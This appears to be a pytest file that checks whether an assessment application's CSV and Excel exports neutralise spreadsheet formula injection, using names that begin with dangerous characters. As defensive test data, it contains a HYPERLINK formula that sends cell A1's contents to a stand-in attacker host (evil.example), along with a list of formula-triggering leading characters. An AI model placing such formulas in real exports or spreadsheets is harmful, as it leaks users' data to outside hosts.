"""Exports never carry a live spreadsheet formula (OWASP "CSV injection"), whatever the names start with."""

import csv
import io

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from assessments.core.sheets import csv_stream, neutralise, xlsx
from tests import factories

LEADING = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("lead", LEADING)
def test_neutralise_each_leading_character(lead):
    assert neutralise(lead + PAYLOAD) == "'" + lead + PAYLOAD
    assert neutralise("Sales" + lead) == "Sales" + lead  # only the first character matters
    assert neutralise(-2.5) == -2.5  # numbers stay numbers


@pytest.mark.parametrize("lead", LEADING)
def test_sheets_write_text_not_formulas(lead):
    name = lead + PAYLOAD
    content = "".join(csv_stream([name], [[name, -1.5]], language="en"))
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    assert rows == [["'" + name], ["'" + name, "-1.5"]]
    book = load_workbook(xlsx([("S", [name], [[name, -1.5]])]))
    cells = [c for row in book.active.iter_rows() for c in row]
    # Excel reads its escape _x000D_ back as "\r"; openpyxl leaves it escaped.
    assert [unescape(c.value) if isinstance(c.value, str) else c.value for c in cells] == [name, None, name, -1.5]
    assert all(c.data_type != "f" for c in cells)


@pytest.fixture
def hostile(org_a, model_version):
    """Every name an attacker controls starts with one of the dangerous characters."""

    def make(lead):
        org_a.name = f"{lead}Org {PAYLOAD}"
        org_a.save()
        team = factories.make_team(organisation=org_a, name=f"{lead}Team {PAYLOAD}")
        role = factories.make_role(organisation=org_a, name=f"{lead}Role {PAYLOAD}")
        assessment = factories.make_assessment(
            organisation=org_a, model_version=model_version, teams=[team], roles=[role], title=f"{lead}Scan"
        )
        factories.make_random_responses(assessment=assessment, count=6, team=team, role=role)
        return assessment

    return make


@pytest.mark.parametrize("lead", LEADING)
@pytest.mark.parametrize("kind", ["scores", "answers"])
def test_every_export_is_safe(hostile, manager_a, client_for, lead, kind):
    assessment = hostile(lead)
    client = client_for(manager_a)
    url = f"/a/{assessment.public_id}/results/export/{kind}"

    body = b"".join(client.get(f"{url}.csv", HTTP_ACCEPT_LANGUAGE="en").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    named = [c for c in cells if PAYLOAD in c]
    assert named, "the hostile names are in the export"
    assert all(c.startswith("'" + lead) for c in named)
    assert not any(c.startswith(tuple(LEADING)) and not c.lstrip("-").replace(".", "").isdigit() for c in cells)

    book = load_workbook(io.BytesIO(client.get(f"{url}.xlsx", HTTP_ACCEPT_LANGUAGE="en").getvalue()))
    xcells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in xcells if c.data_type == "f"]
    # A carriage return is stored as Excel's escape _x000D_, which Excel (not openpyxl) reads back as "\r".
    texts = {unescape(c.value) for c in xcells if isinstance(c.value, str) and PAYLOAD in c.value}
    assert texts >= {f"{lead}Team {PAYLOAD}"}
    assert all(c.data_type == "s" for c in xcells if isinstance(c.value, str))


FORMULA_LIKE = ['=HYPERLINK("https://evil.example/","click")', "+1", "-2", "@x"]


@pytest.mark.parametrize("name", FORMULA_LIKE)
@pytest.mark.parametrize("kind", ["scores", "answers"])
def test_excel_keeps_formula_like_names_as_text_and_numbers_as_numbers(
    org_a, model_version, manager_a, client_for, name, kind
):
    team = factories.make_team(organisation=org_a, name=name)
    role = factories.make_role(organisation=org_a, name="Staff")
    assessment = factories.make_assessment(organisation=org_a, model_version=model_version, teams=[team], roles=[role])
    factories.make_random_responses(assessment=assessment, count=6, team=team, role=role)
    response = client_for(manager_a).get(f"/a/{assessment.public_id}/results/export/{kind}.xlsx")
    sheet = load_workbook(io.BytesIO(response.getvalue())).worksheets[0]
    rows = list(sheet.iter_rows())
    named = [c for row in rows for c in row if c.value == name]
    assert named, "the team's name is in the export"
    assert {(c.data_type, type(c.value)) for c in named} == {("s", str)}
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    header = [c.value for c in rows[0]]
    if kind == "scores":
        group, respondents = header.index("Group"), header.index("Respondents")
        counts = {(row[respondents].data_type, row[respondents].value) for row in rows if row[group].value == name}
        assert counts == {("n", 6)}
    else:
        assert [row[0].value for row in rows[1:]] == [1, 2, 3, 4, 5, 6]  # respondent numbers stay numbers
        answers = [c for row in rows[1:] for c in row[3:] if c.value is not None and c.value != "dk"]
        assert answers
        assert {type(c.value) for c in answers} == {int}
        assert {c.data_type for c in answers} == {"n"}


def test_xlsx_writes_each_type_as_its_kind():
    import datetime
    from decimal import Decimal

    from django.utils.translation import gettext_lazy

    rows = iter([["+1", 2, 2.5, Decimal("3.25"), True, None, datetime.date(2026, 1, 2), gettext_lazy("Team")]])
    book = load_workbook(xlsx([("Answers", ["=A1", "-2"], rows), ("About", ["@x"], [["x"]])]))
    assert book.sheetnames == ["Answers", "About"]
    answers = book["Answers"]
    assert [(c.value, c.data_type) for c in answers[1][:2]] == [("=A1", "s"), ("-2", "s")]
    values = [c.value for c in answers[2]]
    assert values == ["+1", 2, 2.5, 3.25, True, None, datetime.datetime(2026, 1, 2), "Team"]
    assert [c.data_type for c in answers[2]] == ["s", "n", "n", "n", "b", "n", "d", "s"]
    assert [c.value for c in book["About"]["A"]] == ["@x", "x"]
